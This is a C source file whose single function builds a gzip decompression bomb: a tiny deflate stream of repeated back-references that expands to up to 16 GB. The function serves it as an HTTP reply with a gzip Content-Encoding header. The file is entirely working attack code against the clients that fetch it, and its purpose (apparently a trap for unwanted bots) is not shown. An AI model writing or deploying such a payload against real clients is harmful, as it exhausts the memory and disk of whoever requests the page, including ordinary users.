#include "fault_bomb.h"

#include <string.h>

#define MEGABYTES_LIMIT 16384
#define RUN 258 /* the longest match of deflate */

/* Bits in deflate's order: each byte is filled from its lowest bit. */
struct bits {
	unsigned char *data;
	size_t used; /* bits */
};

static void put_bit(struct bits *bits, unsigned int bit)
{
	bits->data[bits->used / 8] |= (unsigned char)((bit & 1) << bits->used % 8);
	bits->used++;
}

/* A Huffman code is written from its highest bit. */
static void put_code(struct bits *bits, unsigned int code, int length)
{
	while (length-- > 0)
		put_bit(bits, code >> length);
}

/*
 * RFC 1952 and 1951: a gzip header, one block of fixed codes with a blank and matches of it, no
 * true checksum, since nobody should unpack as far as that.
 */
void fault_bomb(struct reply *reply, long megabytes)
{
	static const unsigned char header[] = { 0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255 };
	size_t size = megabytes < 1 ? 1 : (size_t)megabytes;
	struct bits bits;
	size_t runs;

	if (size > MEGABYTES_LIMIT)
		size = MEGABYTES_LIMIT;
	runs = (size << 20) / RUN;
	bits.data = mem_new(sizeof(header) + runs * 13 / 8 + 16, 1);
	memcpy(bits.data, header, sizeof(header));
	bits.used = sizeof(header) * 8;
	put_bit(&bits, 1);     /* the last block */
	put_code(&bits, 2, 2); /* of type 1, written from its lowest bit: 1, 0 */
	put_code(&bits, 0x30 + ' ', 8);
	for (size_t i = 0; i < runs; i++) {
		put_code(&bits, 0xc5, 8); /* length 258 */
		put_code(&bits, 0, 5);	  /* distance 1 */
	}
	put_code(&bits, 0, 7); /* end of block */
	free(reply->body);
	reply->body = (char *)bits.data;
	reply->length = (bits.used + 7) / 8 + 8;
	reply_header(reply, "Content-Encoding", "gzip");
}
